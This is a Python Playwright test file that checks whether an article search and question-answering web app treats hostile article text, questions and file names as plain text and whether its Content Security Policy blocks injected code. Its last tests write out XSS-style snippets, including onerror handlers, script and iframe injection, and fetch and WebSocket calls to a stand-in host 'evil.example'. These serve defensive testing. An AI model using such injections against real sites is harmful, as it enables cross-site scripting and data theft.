"""Attacks in a browser: what articles, names, addresses and questions say is text in every state of the page.

A new state of the page is a new function in `STATES`, and is attacked like the others.
"""

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.ui.attacks import ALL, NEWS, PAYLOADS, assert_clean
from tests.ui.conftest import OpenPage, Server, StartServer
from tests.ui.http import send
from tests.ui.steps import ask

SHORT = f"{PAYLOADS['handler']} **x** {PAYLOADS['script']}"
WHO = "Who bought the lighthouse of Grenna?"


@pytest.fixture(scope="module")
def hostile(start_server: StartServer, tmp_path_factory: pytest.TempPathFactory) -> Server:
    """A server whose articles attack whoever reads them: one with everything at once, and one for each payload."""
    index = tmp_path_factory.mktemp("hostile") / "articles.index"
    server = start_server(index, "--port", "0", "--rate", "0", QA_MIN_CONFIDENCE="0")
    everything = {
        "title": f"Grenna {ALL}",
        "text": f"The lighthouse of Grenna was sold to Ottilie Brandt, who wrote {SHORT} on its door.\n{ALL}",
        "source": f"Gazette {PAYLOADS['handler']}",
        "date": "2021-03-04",
        "url": f"{NEWS}{PAYLOADS['attribute']}",
    }
    each = [
        {
            "title": payload,
            "text": f"{payload} stood on the door of mill {number}.",
            "source": payload,
            "url": f"javascript:window.hurt='{name}'",
        }
        for number, (name, payload) in enumerate(PAYLOADS.items())
    ]
    told = send(f"{server.url}/api/index", data={"articles": [everything, *each]}).json
    assert told["added"] == len(each) + 1, told
    return server


# The states ------------------------------------------------------------------------------------------------


def listed(page: Page) -> None:
    expect(page.locator("#list .card")).to_have_count(len(PAYLOADS) + 1)


def filtered(page: Page) -> None:
    page.get_by_label("Search the articles").fill(PAYLOADS["script"])
    expect(page.locator("#list .card").filter(has_text=PAYLOADS["script"]).first).to_be_visible()


def answered(page: Page) -> None:
    reply = ask(page, WHO)
    expect(reply.locator(".answer")).not_to_have_text("The articles do not say.")
    expect(reply.locator(".card", has_text="hurt").first).to_be_visible()


def asked(page: Page) -> None:
    ask(page, f"{WHO} {ALL[:1800]}")
    expect(page.locator(".question").last).to_contain_text(PAYLOADS["script"])


def refused(page: Page) -> None:
    ask(page, f"{ALL} {ALL}")
    expect(page.locator(".reply").last).to_contain_text("are allowed")


def followed_up(page: Page) -> None:
    answered(page)
    ask(page, f"What did he write? {PAYLOADS['handler']}")


def opened(page: Page) -> None:
    ask(page, WHO).locator("[data-cite]").first.click()
    expect(page.locator("mark.quoted")).to_be_visible()
    assert_clean(page)
    page.get_by_role("button", name="All articles").click()
    page.locator("#list .card", has_text="Grenna").first.click()
    expect(page.locator(".story h2")).to_contain_text("Grenna")
    expect(page.locator(".story .text")).to_contain_text(PAYLOADS["script"])


def opened_each(page: Page) -> None:
    cards = page.locator("#list .card")
    for number in range(len(PAYLOADS) + 1):
        if number:
            page.get_by_role("button", name="All articles").click()
        cards.nth(number).click()
        expect(page.locator(".story .text")).to_be_visible()
        assert page.locator(".story a[href^='javascript']").count() == 0
        assert_clean(page)


def limited(page: Page) -> None:
    page.get_by_role("button", name="Limit the search").click()
    form = page.get_by_role("form", name="Limit the search")
    assert_clean(page)
    form.get_by_role("checkbox", name=PAYLOADS["handler"]).first.check()
    expect(page.locator(".chip").first).to_contain_text(PAYLOADS["handler"])
    ask(page, WHO)


STATES: tuple[Callable[[Page], None], ...] = (
    listed,
    filtered,
    answered,
    asked,
    refused,
    followed_up,
    opened,
    opened_each,
    limited,
)


@pytest.mark.parametrize("reach", STATES)
def test_hostile_articles_and_questions_are_text(
    open_page: OpenPage, hostile: Server, reach: Callable[[Page], None]
) -> None:
    page = open_page(hostile)

    reach(page)

    page.wait_for_timeout(300)  # what would load or run has begun to
    assert_clean(page)


@pytest.mark.parametrize("name", ["script", "handler", "svg", "attribute", "dangling", "template"])
def test_hostile_file_names_are_text(open_page: OpenPage, hostile: Server, tmp_path: Path, name: str) -> None:
    named = PAYLOADS[name].replace("/", "")[:100]
    (tmp_path / f"{named}.json").write_text("{")
    (tmp_path / f"{named}.exe").write_text("{")
    page = open_page(hostile)

    page.locator("#library input[type=file]").set_input_files(list(tmp_path.iterdir()))

    expect(page.locator("#report .items li")).to_have_count(2)
    page.wait_for_timeout(300)
    assert_clean(page)


def test_a_removed_article_takes_its_leave_as_text(open_page: OpenPage, hostile: Server) -> None:
    send(f"{hostile.url}/api/index", data={"articles": [{"text": "Rye is dear.", "title": f"Rye {ALL}"}]})
    page = open_page(hostile)

    page.locator("#list .card", has_text="Rye").first.click()
    page.get_by_role("button", name="Remove from the index").click()
    page.get_by_role("button", name="Remove", exact=True).click()

    expect(page.locator(".page .note")).to_contain_text(f"Removed: Rye {PAYLOADS['script']}")
    assert_clean(page)


@pytest.mark.parametrize(
    ("harm", "message"),
    [
        (
            "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hurt=1\">')",
            "inline event handler",
        ),
        ("document.body.insertAdjacentHTML('beforeend', '<img src=http://evil.example/x.png>')", "img-src"),
        (
            "document.body.append(Object.assign(document.createElement('script'), {textContent: 'hurt=1'}))",
            "script-src",
        ),
        (
            "document.body.append(Object.assign(document.createElement('script'), {src: 'http://evil.example/'}))",
            "script",
        ),
        ("fetch('http://evil.example/').catch(() => 0)", "connect"),
        (
            "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://evil.example/'}))",
            "frame",
        ),
        ("location.assign('javascript:window.hurt=1')", "javascript"),
        ("new WebSocket('ws://evil.example/')", "connect"),
    ],
)
def test_even_if_a_text_became_html_it_could_run_and_load_nothing(
    browser: Browser, seed_server: Server, harm: str, message: str
) -> None:
    page = browser.new_context().new_page()
    said: list[str] = []
    requested: list[str] = []
    page.on("console", lambda line: said.append(line.text))
    page.on("requestfinished", lambda request: requested.append(request.url))
    page.goto(seed_server.url)
    page.locator(".welcome").wait_for()

    page.evaluate(f"() => {{ try {{ {harm} }} catch {{}} }}")
    page.wait_for_timeout(300)

    assert page.evaluate("window.hurt") is None
    assert any("Content Security Policy" in line and message in line for line in said), said
    assert all(url.startswith((seed_server.url, "data:", "blob:")) for url in requested)
    page.context.close()


def test_the_page_cannot_be_framed(browser: Browser, seed_server: Server) -> None:
    page = browser.new_context().new_page()
    page.set_content(f"<iframe src='{seed_server.url}'></iframe>")
    page.wait_for_timeout(500)

    assert page.frames[1].evaluate("document.querySelector('gradio-app')") is None
    page.context.close()


def test_what_programs_are_told_is_json_and_never_a_page(hostile: Server) -> None:
    for path in ("api/articles?limit=100", "api/articles/<script>", "gradio_api/info", "%3Cscript%3E"):
        reply = send(f"{hostile.url}/{path}")
        assert reply.headers.get_content_type() == "application/json", path
        json.loads(reply.body)
